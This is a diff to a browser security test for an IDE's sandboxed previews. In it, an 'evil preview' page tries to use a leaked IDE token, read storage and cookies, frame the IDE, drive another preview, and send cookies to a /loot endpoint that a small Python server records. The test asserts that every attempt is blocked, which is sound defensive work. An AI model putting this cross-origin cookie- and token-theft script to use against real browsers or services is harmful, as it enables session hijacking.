@@ -1,10 +1,14 @@
 // A preview is untrusted content (PROTOCOL.md §11): in Debian's chromium,
 // a page served by a server in the sandbox, through its preview's own
-// loopback origin, tries to reach the IDE's /rpc (websocket and fetch, with
-// and without the IDE's token, as if it had leaked), read the IDE's
-// storage and cookies, frame the IDE, and drive another preview with the
-// cookie the browser holds for it. Each attempt gets nothing; the IDE and
-// the other preview are checked from outside too.
+// origin (its browserUrl, a name of its own under .localhost, as the
+// clients open it), tries to reach the IDE's /rpc (websocket and fetch,
+// with and without the IDE's token, as if it had leaked), read the IDE's
+// storage and cookies, frame the IDE, drive another preview with the
+// cookie the browser holds for it, read that preview's app's own cookie,
+// and open its own server at the loopback address with the token of its
+// address (where every loopback service's cookies would come along). Each
+// attempt gets nothing; the IDE and the other preview are checked from
+// outside too.
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
@@ -51,6 +55,10 @@ const evil = `<!doctype html><title>evil preview</title><body><script>
   try { r.frame = "read:" + f.contentWindow.document.body.innerHTML.length; } catch (e) { r.frame = "blocked:" + e.name; }
   r.victim = await get(victim, { credentials: "include", mode: "no-cors" });
   r.victimCors = await get(victim, { credentials: "include" });
+  // Its own server at the loopback address, with the token of its own
+  // address: refused before the app (the evil app's /loot records any).
+  const own = new URLSearchParams(location.search).get("cellbox-preview");
+  r.loopback = await get("http://127.0.0.1:" + location.port + "/loot?cellbox-preview=" + own, { credentials: "include", mode: "no-cors" });
   document.body.dataset.result = JSON.stringify(r);
 })();
 </script></body>
@@ -59,9 +67,12 @@ const evil = `<!doctype html><title>evil preview</title><body><script>
 const apps = `
 import http.server, threading
 hits = {"n": 0}
+loot = []
 class Evil(http.server.BaseHTTPRequestHandler):
     def log_message(self, *a): pass
     def do_GET(self):
+        if self.path.startswith("/loot"):
+            loot.append(self.headers.get("Cookie", ""))
         body = open("evil.html", "rb").read()
         self.send_response(200); self.send_header("Content-Type", "text/html"); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
 class Victim(http.server.BaseHTTPRequestHandler):
@@ -69,7 +80,7 @@ class Victim(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         hits["n"] += 1
         body = ("victim hit %d" % hits["n"]).encode()
-        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+        self.send_response(200); self.send_header("Set-Cookie", "victim_session=s3cret; Path=/"); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
 for port, h in ((8000, Evil), (8001, Victim)):
     s = http.server.ThreadingHTTPServer(("127.0.0.1", port), h)
     threading.Thread(target=s.serve_forever, daemon=True).start()
@@ -114,21 +125,23 @@ test("a preview's page cannot reach the IDE's /rpc, storage or frame, nor drive 
   // The victim opened by its user first: the browser holds its cookie.
   const victimTab = await browser.context.newPage();
   await waitFor(async () => {
-    const resp = await victimTab.goto(victimPv.url);
+    const resp = await victimTab.goto(victimPv.browserUrl);
     return resp.status() === 200;
   }, { what: "the victim preview", timeoutMs: 30_000 });
   assert.match(await victimTab.innerText("body"), /^victim hit \d+$/);
-  const victimCookies = (await browser.context.cookies(new URL(victimPv.url).origin)).filter((c) => c.name.startsWith("cellbox-preview-"));
+  assert.equal(new URL(victimPv.browserUrl).hostname, `${victimPv.previewId}.localhost`);
+  const victimCookies = (await browser.context.cookies(new URL(victimPv.browserUrl).origin)).filter((c) => c.name.startsWith("cellbox-preview-"));
   assert.ok(victimCookies.length >= 1 && victimCookies.every((c) => c.httpOnly), JSON.stringify(victimCookies));
+  assert.ok(await victimTab.evaluate(() => document.cookie.includes("victim_session=s3cret")), "the control: the victim's app set a cookie its page reads");
   const hitsBefore = await hits();
   assert.ok(hitsBefore >= 1, `the victim counted its own load (${hitsBefore})`);
 
   // The attacker's page, in a tab of its own.
-  const victimBase = new URL(victimPv.url);
+  const victimBase = new URL(victimPv.browserUrl);
   victimBase.search = "";
   const evilTab = await browser.context.newPage();
   const fragment = new URLSearchParams({ ide: d.origin, token: d.token, victim: victimBase.href });
-  await evilTab.goto(`${evilPv.url}#${fragment}`);
+  await evilTab.goto(`${evilPv.browserUrl}#${fragment}`);
   const result = JSON.parse(await (await evilTab.waitForSelector("body[data-result]", { timeout: 60_000 })).getAttribute("data-result"));
   await evilTab.screenshot({ path: join(artifacts, "preview-origin-evil.png") });
 
@@ -141,6 +154,7 @@ test("a preview's page cannot reach the IDE's /rpc, storage or frame, nor drive 
   assert.ok(!result.storage.includes(d.token), `the preview's storage holds the IDE's token: ${result.storage}`);
   assert.equal(result.storage, JSON.stringify({ session: {}, local: {} }));
   assert.ok(!result.cookie.includes("cellbox-preview") && !result.cookie.includes(d.token), `document.cookie: ${result.cookie}`);
+  assert.ok(!result.cookie.includes("s3cret"), `the other preview's app's cookie, read by this one's script: ${result.cookie}`);
   assert.equal(result.frame, "blocked:SecurityError");
   // The IDE did not render in the attacker's frame (frame-ancestors 'none').
   const ideFrame = evilTab.frames().find((f) => f.parentFrame() === evilTab.mainFrame());
@@ -151,6 +165,11 @@ test("a preview's page cannot reach the IDE's /rpc, storage or frame, nor drive 
   assert.equal(result.victim, "status:0:");
   assert.match(result.victimCors, /^(blocked:TypeError|status:401:)/);
   assert.equal(await hits(), hitsBefore, "the victim's app was reached from the attacker's page");
+  // Its own server at the loopback address with its address's token: the
+  // app was never reached.
+  assert.equal(result.loopback, "status:0:");
+  const looted = await request("kernel/execute", { kernelId, code: "raise ValueError(repr(loot))" });
+  assert.equal(looted.error?.evalue, "[]", "the evil app was reached at the loopback address with the browser token");
 
   // The IDE is still there and still answers.
   const stats = await request("daemon/stats", {});
@@ -168,7 +187,7 @@ test("a preview's own page talks to its server over a websocket (the cookie its 
   assert.equal(started.status, "ok", JSON.stringify(started));
   const pv = await request("workspace/exposePort", { workspaceId, port: 8002 });
   const tab = await browser.context.newPage();
-  await waitFor(async () => (await tab.goto(pv.url)).status() === 200, { what: "the app's page", timeoutMs: 30_000 });
+  await waitFor(async () => (await tab.goto(pv.browserUrl)).status() === 200, { what: "the app's page", timeoutMs: 30_000 });
   assert.equal(await tab.innerText("body"), "hello from the sandbox /");
   const echoed = await tab.evaluate(() => new Promise((resolve) => {
     const ws = new WebSocket(location.origin.replace(/^http/, "ws") + "/ws");
